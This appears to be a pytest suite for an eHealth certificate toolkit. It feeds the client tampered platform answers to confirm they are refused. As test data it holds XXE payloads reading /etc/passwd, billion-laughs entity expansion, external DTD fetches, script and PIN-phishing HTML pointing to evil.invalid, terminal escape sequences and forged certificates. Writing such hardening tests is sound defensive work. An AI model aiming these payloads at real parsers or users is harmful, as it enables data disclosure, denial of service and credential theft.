"""A platform, or somebody on the way to it, that means harm.

The training platform's answers are twisted before the real procedures see them. Each twist is refused by an error of
its own or is harmless, nothing on disk is lost, and once the answers are true again the next run finishes with what was
there.
"""

from __future__ import annotations

import base64
import re
import time
import tracemalloc
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field, replace
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding

from ehtoolkit import errors
from ehtoolkit.ehealth.contract import Contract, plain_text
from ehtoolkit.ehealth.etk import read_etk
from ehtoolkit.ehealth.platform import base_url_of, platform_at
from ehtoolkit.ehealth.soap.signature import KeySigner
from ehtoolkit.ehealth.soap.transport import Response, Transport
from ehtoolkit.ehealth.wire.http import HttpTransport
from ehtoolkit.forms.widgets.page_parts import ContractFrame
from ehtoolkit.i18n import LANGUAGES, Translator
from ehtoolkit.identity import ContactData, DistinguishedName, Niss, Person
from ehtoolkit.keystore.state import State
from ehtoolkit.keystore.storage.keystore_file import KeystoreFile
from ehtoolkit.procedures.complete import complete
from ehtoolkit.procedures.request import CertificateRequest, request
from ehtoolkit.procedures.state.platform_status import status
from ehtoolkit.settings import Settings
from ehtoolkit.system.text_safety import LONGEST, fit
from tests.procedures import conftest as procedures
from tests.procedures.conftest import PASSWORD, PIN, Road
from tests.support.faulty_servers import endless, serving

road, warm_home = procedures.road, procedures.warm_home

Twist = Callable[[bytes], bytes]


# ── twists that fit every answer ─────────────────────────────────────────────────────────────────────────
BODY = re.compile(rb"(<[\w.-]+:Body[^>]*>)(.*)(</[\w.-]+:Body>)", re.DOTALL)


def in_body(change: Callable[[bytes], bytes]) -> Twist:
    def twist(answer: bytes) -> bytes:
        found = BODY.search(answer)
        assert found is not None
        return answer[: found.start(2)] + change(found[2]) + answer[found.end(2) :]

    return twist


def with_dtd(declarations: bytes, reference: bytes = b"") -> Twist:
    """A document type before the envelope, and a reference to what it defines as the first text of the body."""

    def twist(answer: bytes) -> bytes:
        start = answer.index(b"<", answer.index(b"?>") + 2 if answer.startswith(b"<?xml") else 0)
        changed = in_body(lambda body: reference + body)(answer)
        return b'<?xml version="1.0"?><!DOCTYPE x [' + declarations + b"]>" + changed[start:]

    return twist


LAUGHS = b'<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
)


def in_response_to(value: bytes | None) -> Twist:
    """Another InResponseTo on the message; None: none."""

    def twist(answer: bytes) -> bytes:
        attribute = b"" if value is None else b' InResponseTo="' + value + b'"'
        changed, count = re.subn(rb' InResponseTo="[^"]*"', attribute, answer, count=1)
        assert count == 1
        return changed

    return twist


def renamed(answer: bytes) -> bytes:
    """The answer of another operation, with the very same content."""
    changed, count = re.subn(
        rb"(</?[\w.-]+:)(?!Envelope|Header|Body)[A-Z]\w+Response\b", rb"\1RenewResponse", answer
    )
    assert count == 2
    return changed


def in_another_namespace(answer: bytes) -> bytes:
    return re.sub(rb'"urn:be:fgov:ehealth:(certra|etkra):protocol:v2"', b'"urn:somebody:else"', answer)


def nested(body: bytes) -> bytes:
    return b"<a>" * 100_000 + b"</a>" * 100_000


TWISTS: Mapping[str, tuple[Twist, str]] = {
    "entity expansion": (with_dtd(LAUGHS, b"&j;"), "dtd"),
    "external entity": (with_dtd(b'<!ENTITY a SYSTEM "file:///etc/passwd">', b"&a;"), "dtd"),
    "external parameter entity": (with_dtd(b'<!ENTITY % a SYSTEM "http://192.0.2.1/x.dtd"> %a;'), "dtd"),
    "external subset": (lambda answer: b'<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">' + answer, "dtd"),
    "processing instruction": (in_body(lambda body: b"<?php evil ?>" + body), "content"),
    "undefined entity": (in_body(lambda body: b"&evil;" + body), "not_xml"),
    "huge nesting": (in_body(nested), "not_xml"),
    "nine megabytes": (in_body(lambda body: b" " * 9_000_000 + body), "too_large"),
    "UTF-16": (lambda answer: answer.decode().encode("utf-16"), "not_xml"),
    "garbage": (lambda _: b"\x00\x01garbage", "not_xml"),
    "half": (lambda answer: answer[: len(answer) // 2], "not_xml"),
    "nothing": (lambda _: b"", "empty"),
    "a page": (lambda _: b"<!DOCTYPE html><html><form action='https://evil.invalid'></html>", "html"),
    "two messages": (in_body(lambda body: body + body), "envelope"),
    "no message": (in_body(lambda _: b""), "envelope"),
    "text beside the message": (in_body(lambda body: body + b"and more"), "envelope"),
    "no envelope": (lambda answer: BODY.search(answer)[2], "envelope"),  # type: ignore[index]
    "another operation's answer": (renamed, "other_message"),
    "another namespace": (in_another_namespace, "other_message"),
    "another question's answer": (in_response_to(b"_7c1d3d10-0000-4000-8000-000000000000"), "in_response_to"),
}
OF_THE_DEPOT = {"another operation's answer", "another namespace", "another question's answer"}
"""Its answers have no Id, and a namespace of their own."""


@dataclass
class Hostile:
    """Stands on the wire. ``twists``: by the end of an operation's SOAPAction or of an address; ``answers``: everything
    that the platform said, as it said it."""

    inner: Transport
    twists: dict[str, Twist] = field(default_factory=dict)
    sent: list[str] = field(default_factory=list)
    answers: dict[str, list[bytes]] = field(default_factory=dict)

    def post(self, url: str, body: bytes, headers: Mapping[str, str]) -> Response:
        action = headers.get("SOAPAction", url).strip('"').lower()
        name = re.split("[:/]", action)[-2] if action.endswith("/v1") else re.split("[:/]", action)[-1]
        self.sent.append(name)
        answer = self.inner.post(url, body, headers)
        self.answers.setdefault(name, []).append(answer.body)
        twist = self.twists.get(name)
        return answer if twist is None else Response(answer.status, answer.headers, twist(answer.body))


@dataclass
class Walk:
    """The usual person's road with a hostile wire."""

    road: Road
    wire: Hostile

    @property
    def certificates(self) -> int:
        """How many certificates the platform has been asked for."""
        return self.wire.sent.count("generatecertificate")


@pytest.fixture
def walk(road: Road) -> Walk:
    assert road.toolkit.training is not None
    wire = Hostile(road.toolkit.training.transport())
    context = road.toolkit.context
    platform = platform_at(wire, base_url_of(context.environment), context.clock)
    return Walk(Road(replace(road.toolkit, context=replace(context, platform=platform)), road.wire), wire)


def finish(walk: Walk) -> None:
    """Now that everybody tells the truth, the road goes to its end, with one certificate and every key there was."""
    walk.wire.twists.clear()
    keys = keys_of(walk.road)
    outcome = walk.road.ask() if not walk.road.keystores else None
    (path,) = walk.road.keystores
    walk.road.wait()
    file = KeystoreFile.open(path, PASSWORD)
    assert complete(file, walk.road.toolkit.context).state is State.COMPLETE
    assert status(file, walk.road.toolkit.context).state is State.ACTIVE
    assert outcome is None or outcome.keystore == path
    assert walk.certificates == 1
    assert keys <= keys_of(walk.road), "a private key is gone"


def keys_of(road: Road) -> set[str]:
    """The identifiers of all private keys on disk."""
    found: set[str] = set()
    for path in road.keystores:
        keystore = KeystoreFile.open(path, PASSWORD).keystore
        found |= {key.key_id.hex() for key in (keystore.authentication, *keystore.encryption)}
    return found


def reason_of(error: errors.EhToolkitError) -> object:
    for language in LANGUAGES:
        texts = Translator(language)
        assert texts.error(error)
        assert texts.next_step(error)
    return error.facts["reason"]


# ── every twist at every answer ──────────────────────────────────────────────────────────────────────────
SOME = ("entity expansion", "half", "a page", "another question's answer")
"""Enough where all twists end in the same: the platform is asked what it has."""


@pytest.mark.parametrize("operation", ["getactorqualities", "generatecontract"])
def test_before_anything_is_signed(operation: str, walk: Walk) -> None:
    for name, (twist, reason) in TWISTS.items():
        walk.wire.twists[operation] = twist
        with pytest.raises(errors.ResponseInvalid) as caught:
            walk.road.ask()
        assert reason_of(caught.value) == reason, name
        assert walk.road.keystores == []
    assert walk.certificates == 0
    finish(walk)


@pytest.mark.parametrize("name", TWISTS)
def test_after_the_request_was_sent_the_platform_is_asked(name: str, walk: Walk) -> None:
    walk.wire.twists["generatecertificate"], _ = TWISTS[name]
    assert walk.road.ask().state is State.WAITING
    assert walk.certificates == 1
    finish(walk)


@pytest.mark.parametrize("name", SOME)
def test_after_the_request_was_sent_and_when_asking_fails_too(name: str, walk: Walk) -> None:
    twist, reason = TWISTS[name]
    walk.wire.twists |= {"generatecertificate": twist, "getcertificate": twist}
    with pytest.raises((errors.ResponseInvalid, errors.ResponseLost)) as caught:
        walk.road.ask()
    assert reason_of(caught.value) == reason
    assert len(walk.road.keystores) == 1
    finish(walk)


def test_on_delivery(walk: Walk) -> None:
    asked = walk.road.ask()
    walk.road.wait()
    before = asked.keystore.read_bytes()
    for name, (twist, reason) in TWISTS.items():
        walk.wire.twists["getcertificate"] = twist
        with pytest.raises(errors.ResponseInvalid) as caught:
            walk.road.complete(asked)
        assert reason_of(caught.value) == reason, name
        assert asked.keystore.read_bytes() == before
    finish(walk)


def test_at_the_challenge(walk: Walk) -> None:
    asked = walk.road.ask()
    walk.road.wait()
    for name, (twist, reason) in TWISTS.items():
        walk.wire.twists["startetkregistration"] = twist
        with pytest.raises(errors.ResponseLost) as caught:
            walk.road.complete(asked)
        assert reason_of(caught.value) == reason, name
        assert walk.road.file(asked).keystore.installed
    finish(walk)


@pytest.mark.parametrize("name", SOME)
def test_at_the_registration_the_platform_is_asked(name: str, walk: Walk) -> None:
    asked = walk.road.ask()
    walk.road.wait()
    walk.wire.twists["completeetkregistration"], _ = TWISTS[name]
    assert walk.road.complete(asked).state is State.COMPLETE
    assert walk.wire.sent.count("completeetkregistration") == 1
    finish(walk)


def test_at_the_depot(walk: Walk) -> None:
    asked = walk.road.ask()
    walk.road.wait()
    for name in sorted(set(TWISTS) - OF_THE_DEPOT):
        walk.wire.twists["etkdepot"], reason = TWISTS[name]
        with pytest.raises(errors.ResponseInvalid) as caught:
            walk.road.complete(asked)
        assert reason_of(caught.value) == reason, name
        assert len(walk.road.file(asked).keystore.encryption) == 1
    finish(walk)


def test_at_the_status(walk: Walk) -> None:
    asked = walk.road.ask()
    walk.road.wait()
    walk.road.complete(asked)
    before = asked.keystore.read_bytes()
    for name, (twist, reason) in TWISTS.items():
        walk.wire.twists["getcertificateinfoforauthenticationcertificate"] = twist
        platform_status = status(walk.road.file(asked), walk.road.toolkit.context)
        assert isinstance(platform_status.unchecked, errors.ResponseInvalid), name
        assert reason_of(platform_status.unchecked) == reason, name
    assert asked.keystore.read_bytes() == before
    finish(walk)


# ── contracts ────────────────────────────────────────────────────────────────────────────────────────────
def replaced(pattern: bytes, by: bytes) -> Twist:
    def twist(answer: bytes) -> bytes:
        changed, count = re.subn(pattern, by, answer)
        assert count, "the answer has nothing of the kind"
        return changed

    return twist


DN = rb"(<[\w.-]+:DN>)[^<]*"
OTHER = (
    b"CN=SSIN=68053041155, OU=eHealth-platform Belgium, OU=HENNES KARL, OU=SSIN=68053041155, "
    b"O=Federal Government, C=BE"
)


@pytest.mark.parametrize(
    "twist",
    [
        replaced(DN, rb"\1" + OTHER),
        replaced(DN, rb"\1" + OTHER.replace(b"68053041155", b"79031421872").replace(b"SSIN=", b"NIHII=", 1)),
        replaced(DN, rb"\1" + b"CN=services.ehealth.fgov.be, O=Federal Government, C=BE"),
        replaced(DN, rb"\1" + b"rubbish"),
        replaced(rb"(<[\w.-]+:Signer>.*?<[\w.-]+:Id [^>]*>)79031421872", rb"\g<1>68053041155"),
        replaced(rb"(<[\w.-]+:Signer>.*?<[\w.-]+:Name>)[^<]*", rb"\1Peeters"),
    ],
    ids=[
        "somebody else's",
        "another type",
        "a server's",
        "no name",
        "another signer",
        "another signer's name",
    ],
)
def test_a_contract_that_differs_from_what_was_asked_is_neither_shown_nor_signed(
    twist: Twist, walk: Walk
) -> None:
    walk.wire.twists["generatecontract"] = twist
    shown: list[Contract] = []
    with pytest.raises(errors.ResponseUntrusted) as caught:
        request(
            walk.road.requested,
            walk.road.toolkit.open_card(),
            lambda _: PIN,
            PASSWORD,
            walk.road.toolkit.context,
            show=shown.append,
        )
    assert reason_of(caught.value) == "contract"
    assert (shown, walk.road.keystores, walk.certificates) == ([], [], 0)
    finish(walk)


@pytest.mark.parametrize(
    "twist",
    [
        replaced(rb"<([\w.-]+:DN)>[^<]*</\1>", b""),
        replaced(rb"(<([\w.-]+:DN)>[^<]*</\2>)", rb"\1\1"),
        replaced(rb"(?s)<([\w.-]+:Signer)>.*</\1>", b""),
        replaced(rb"(?s)<([\w.-]+:Text)>.*</\1>", b""),
        replaced(rb"(?s)(<([\w.-]+:Contract)\b.*</\2>)", rb"\1\1"),
    ],
    ids=["no name", "two names", "no signer", "no text", "two contracts"],
)
def test_a_contract_that_is_none(twist: Twist, walk: Walk) -> None:
    walk.wire.twists["generatecontract"] = twist
    with pytest.raises(errors.ResponseInvalid) as caught:
        walk.road.ask()
    assert reason_of(caught.value) == "incomplete"
    finish(walk)


EVIL = (
    b"&lt;/p>&lt;script>fetch('https://evil.invalid')&lt;/script>&lt;style>*{display:none}&lt;/style>"
    b"&lt;form action='https://evil.invalid'>&lt;input name='pin'>&lt;/form>&lt;img src='https://evil.invalid/x.png'>"
    b"&lt;meta http-equiv='refresh' content='0;url=https://evil.invalid'>&lt;b>evil&lt;/b>\xc2\x9b31m"
)


def test_a_contract_s_evil_text_is_shown_harmless(walk: Walk) -> None:
    """How a browser shows it, tests/browser says; here: what reaches the frame, and a terminal."""
    walk.wire.twists["generatecontract"] = replaced(rb'(xml:lang="fr">)', rb"\1" + EVIL)
    shown: list[str] = []

    def show(contract: Contract) -> None:
        shown.append(contract.text_in("fr"))
        raise errors.Cancelled

    with pytest.raises(errors.Cancelled):
        request(
            walk.road.requested,
            walk.road.toolkit.open_card(),
            lambda _: PIN,
            PASSWORD,
            walk.road.toolkit.context,
            show=show,
        )
    (html,) = shown
    assert "<script>" in html
    document = ContractFrame("Contrat", html).document
    policy = "default-src 'none'; style-src 'unsafe-inline'"
    assert document.index(policy) < document.index("<script>"), "its policy stands before all of it"
    lines = plain_text(html)
    assert "evil" in lines
    assert "fetch" not in lines
    assert "\x9b" not in lines
    finish(walk)


# ── certificates ─────────────────────────────────────────────────────────────────────────────────────────
CERTIFICATE = re.compile(rb"(X509Certificate>)([^<]+)<")


def with_chain(change: Callable[[list[x509.Certificate]], list[x509.Certificate]]) -> Twist:
    """Other certificates in the answer of GetCertificate, as many as ``change`` gives."""

    def twist(answer: bytes) -> bytes:
        whole = re.compile(rb"(?:<[\w.-]+:X509Certificate>[^<]+</[\w.-]+:X509Certificate>\s*)+")
        first = re.search(rb"<[\w.-]+:X509Certificate>", answer)
        assert first is not None
        old = [
            x509.load_der_x509_certificate(base64.b64decode(text)) for _, text in CERTIFICATE.findall(answer)
        ]
        new = b"".join(
            first[0]
            + base64.b64encode(certificate.public_bytes(Encoding.DER))
            + first[0].replace(b"<", b"</")
            for certificate in change(old)
        )
        return whole.sub(lambda _: new, answer, count=1)

    return twist


def forged(leaf: x509.Certificate, **changes: object) -> x509.Certificate:
    """A certificate like ``leaf``, by somebody who has only his own key."""
    given = {"subject": leaf.subject, "issuer": leaf.issuer, "key": leaf.public_key(), **changes}
    return x509.CertificateBuilder(
        given["issuer"],  # type: ignore[arg-type]
        given["subject"],  # type: ignore[arg-type]
        given["key"],  # type: ignore[arg-type]
        7,
        leaf.not_valid_before_utc,
        leaf.not_valid_after_utc,
    ).sign(rsa.generate_private_key(65537, 2048), hashes.SHA256())


def karl() -> x509.Name:
    return DistinguishedName.for_person(Person(Niss.parse("68053041155"), "Karl", "Hennes")).to_name()


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (
            lambda old: [forged(old[0], key=rsa.generate_private_key(65537, 2048).public_key()), *old[1:]],
            "key",
        ),
        (lambda old: [old[1]], "key"),
        (lambda old: [forged(old[0], subject=karl())], "name"),
        (lambda old: [forged(old[0], subject=x509.Name([]))], "name"),
        (lambda old: old[::-1], "chain_order"),
        (lambda old: [old[1], old[0]], "chain_order"),
        (lambda old: [forged(old[0]), *old[1:]], "chain_order"),
        (
            lambda old: [old[0], forged(old[1], key=rsa.generate_private_key(65537, 2048).public_key())],
            "chain_order",
        ),
        (lambda old: [old[0], old[0], *old[1:]], "chain_order"),
    ],
    ids=[
        "another key",
        "the authority's",
        "somebody else's name",
        "no name",
        "reversed",
        "the first two swapped",
        "not signed by the authority",
        "under a forged authority",
        "twice the same",
    ],
)
def test_a_certificate_that_is_not_ours_is_not_installed(
    change: Callable[[list[x509.Certificate]], list[x509.Certificate]], reason: str, walk: Walk
) -> None:
    asked = walk.road.ask()
    walk.road.wait()
    before = asked.keystore.read_bytes()
    walk.wire.twists["getcertificate"] = with_chain(change)
    with pytest.raises(errors.ResponseUntrusted) as caught:
        walk.road.complete(asked)
    assert reason_of(caught.value) == reason
    assert asked.keystore.read_bytes() == before
    finish(walk)


def test_hundreds_of_certificates_are_no_trouble(walk: Walk) -> None:
    asked = walk.road.ask()
    walk.road.wait()
    walk.wire.twists["getcertificate"] = with_chain(lambda old: [*old, *old[1:] * 500])
    start = time.monotonic()
    with pytest.raises(errors.ResponseUntrusted):
        walk.road.complete(asked)
    assert time.monotonic() - start < 10
    finish(walk)


def test_an_acceptance_of_another_key(walk: Walk) -> None:
    walk.wire.twists["generatecertificate"] = replaced(
        rb"(PublicKeyIdentifier>)[0-9A-Fa-f]{40}", rb"\g<1>" + b"AB" * 20
    )
    with pytest.raises(errors.ResponseUntrusted) as caught:
        walk.road.ask()
    assert reason_of(caught.value) == "key"
    finish(walk)


# ── tokens, and answers that were true once, to somebody else ────────────────────────────────────────────
ETK = rb"(<[\w.-]+:ETK>)[^<]+"


@pytest.fixture
def elsewhere(walk: Walk, tmp_path: Path) -> Mapping[str, bytes]:
    """What the same platform answered on Karl's road, by operation: genuine to the last byte."""
    parts = replace(walk.road.toolkit.context, keystores=tmp_path / "karl")
    card = walk.road.toolkit.open_card("training:karl")
    person = card.identity().person
    requested = CertificateRequest(person, person, ContactData("karl@example.be", "+32 87 55 01 42"))
    asked = request(requested, card, lambda _: PIN, PASSWORD, parts, show=lambda _: None)
    walk.road.wait()
    file = KeystoreFile.open(asked.keystore, PASSWORD)
    assert complete(file, parts).state is State.COMPLETE
    parts.platform.certra.get_certificate_info(
        KeySigner(file.keystore.authentication.key, file.keystore.chain)
    )
    answers = {name: found[-1] for name, found in walk.wire.answers.items()}
    walk.wire.sent.clear()
    return answers


def replayed(answer: bytes, *, stripped: bool) -> Twist:
    return lambda _: in_response_to(None)(answer) if stripped else answer


REPEATABLE = (
    ("ask", "getactorqualities"),
    ("ask", "generatecontract"),
    ("complete", "getcertificate"),
)


@pytest.mark.parametrize(("step", "operation"), REPEATABLE)
def test_a_replayed_answer_names_another_request(
    step: str, operation: str, walk: Walk, elsewhere: Mapping[str, bytes]
) -> None:
    asked = walk.road.ask() if step == "complete" else None
    walk.road.wait()
    walk.wire.twists[operation] = replayed(elsewhere[operation], stripped=False)
    with pytest.raises(errors.ResponseInvalid) as caught:
        walk.road.ask() if asked is None else walk.road.complete(asked)
    assert reason_of(caught.value) == "in_response_to"
    finish(walk)


def test_our_own_answers_of_before_are_not_taken_twice_either(walk: Walk) -> None:
    asked = walk.road.ask()
    assert walk.road.complete(asked).state is State.WAITING
    early = walk.wire.answers["getcertificate"][-1]
    walk.road.wait()
    walk.wire.twists["getcertificate"] = replayed(early, stripped=False)
    with pytest.raises(errors.ResponseInvalid) as caught:
        walk.road.complete(asked)
    assert reason_of(caught.value) == "in_response_to"
    finish(walk)


@pytest.mark.parametrize(
    ("step", "operation", "reason"),
    [
        ("ask", "generatecontract", "contract"),
        ("ask", "generatecertificate", "key"),
        ("complete", "getcertificate", "key"),
        ("complete", "startetkregistration", "challenge"),
        ("complete", "completeetkregistration", "etk"),
        ("complete", "etkdepot", "depot"),
    ],
)
def test_a_replay_without_request_id_has_another_key_name_or_challenge(
    step: str, operation: str, reason: str, walk: Walk, elsewhere: Mapping[str, bytes]
) -> None:
    """InResponseTo is optional; what binds an answer then is what was asked."""
    asked = walk.road.ask() if step == "complete" else None
    walk.road.wait()
    walk.wire.twists[operation] = replayed(elsewhere[operation], stripped=operation != "etkdepot")
    keys = keys_of(walk.road)
    with pytest.raises(errors.ResponseUntrusted) as caught:
        walk.road.ask() if asked is None else walk.road.complete(asked)
    assert reason_of(caught.value) == reason
    assert keys <= keys_of(walk.road)
    finish(walk)


def test_the_standing_of_another_certificate_is_not_ours(walk: Walk, elsewhere: Mapping[str, bytes]) -> None:
    asked = walk.road.ask()
    walk.road.wait()
    walk.road.complete(asked)
    name = "getcertificateinfoforauthenticationcertificate"
    walk.wire.twists[name] = replayed(elsewhere[name], stripped=True)
    platform_status = status(walk.road.file(asked), walk.road.toolkit.context)
    assert isinstance(platform_status.unchecked, errors.ResponseUntrusted)
    assert reason_of(platform_status.unchecked) == "key"
    finish(walk)


@pytest.mark.parametrize("operation", ["completeetkregistration", "etkdepot"])
def test_the_token_of_another_key_is_not_taken_for_ours(
    operation: str, walk: Walk, elsewhere: Mapping[str, bytes]
) -> None:
    """A true answer to our question, but for the token in it."""
    found = re.search(ETK, elsewhere[operation])
    assert found is not None
    token = found[0].partition(b">")[2]
    assert read_etk(base64.b64decode(token)).encryption_certificate
    asked = walk.road.ask()
    walk.road.wait()
    walk.wire.twists[operation] = replaced(ETK, rb"\1" + token)
    with pytest.raises(errors.ResponseUntrusted) as caught:
        walk.road.complete(asked)
    assert reason_of(caught.value) == {"etkdepot": "depot"}.get(operation, "etk")
    finish(walk)


@pytest.mark.parametrize("token", [b"MAMCAQE=", b"AAAA", b"MIIB" * 1000])
@pytest.mark.parametrize(("operation", "reason"), [("completeetkregistration", "etk"), ("etkdepot", "etk")])
def test_a_token_that_is_none(operation: str, reason: str, token: bytes, walk: Walk) -> None:
    asked = walk.road.ask()
    walk.road.wait()
    walk.wire.twists[operation] = replaced(ETK, rb"\1" + token)
    with pytest.raises(errors.ResponseUntrusted) as caught:
        walk.road.complete(asked)
    assert reason_of(caught.value) == reason
    finish(walk)


# ── what it says ─────────────────────────────────────────────────────────────────────────────────────────
REFUSAL = (
    b'<c:Status xmlns:c="urn:be:fgov:ehealth:commons:core:v2"><c:StatusCode Value="urn:no\xc2\x9b2J"/>'
    b"<c:StatusMessage>" + b"\xc2\x9b31m\xe2\x80\xaeevil " * 10_000 + b"</c:StatusMessage></c:Status>"
)


def test_a_refusal_s_words_are_fit_for_a_terminal(walk: Walk) -> None:
    walk.wire.twists["generatecontract"] = replaced(rb"(?s)<([\w.-]+:Status)\b.*?</\1>", REFUSAL)
    with pytest.raises(errors.PlatformRefused) as caught:
        walk.road.ask()
    detail = str(caught.value.facts["detail"])
    assert "evil" in detail
    assert len(detail) <= LONGEST
    for language in LANGUAGES:
        sentence = Translator(language).error(caught.value)
        assert re.search(r"[\x00-\x1f\x7f-\x9f\u202e]", sentence) is None
        assert len(sentence) < 2 * LONGEST
    finish(walk)


def test_untrusted_texts() -> None:
    assert fit("a\r\n b\x1b[2J\u202e c") == "a b [2J c"
    assert fit("x" * 600) == "x" * 499 + "…"
    assert fit("x " * 1_000_000, 5) == "x x …"


# ── over the wire itself ─────────────────────────────────────────────────────────────────────────────────
def test_a_gigabyte_instead_of_an_answer(walk: Walk) -> None:
    """By HTTP, as the real one would: memory stays flat, and the road goes on."""
    with serving(endless) as url, HttpTransport(Settings(platform_url=url.base)) as transport:
        context = walk.road.toolkit.context
        there = replace(
            context,
            platform=platform_at(transport, base_url_of(context.environment, url.base), context.clock),
        )
        tracemalloc.start()
        try:
            with pytest.raises(errors.ResponseInvalid) as caught:
                request(
                    walk.road.requested,
                    walk.road.toolkit.open_card(),
                    lambda _: PIN,
                    PASSWORD,
                    there,
                    show=lambda _: None,
                )
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert len(url.requests) == 1
    assert reason_of(caught.value) == "too_large"
    assert peak < 30_000_000
    finish(walk)
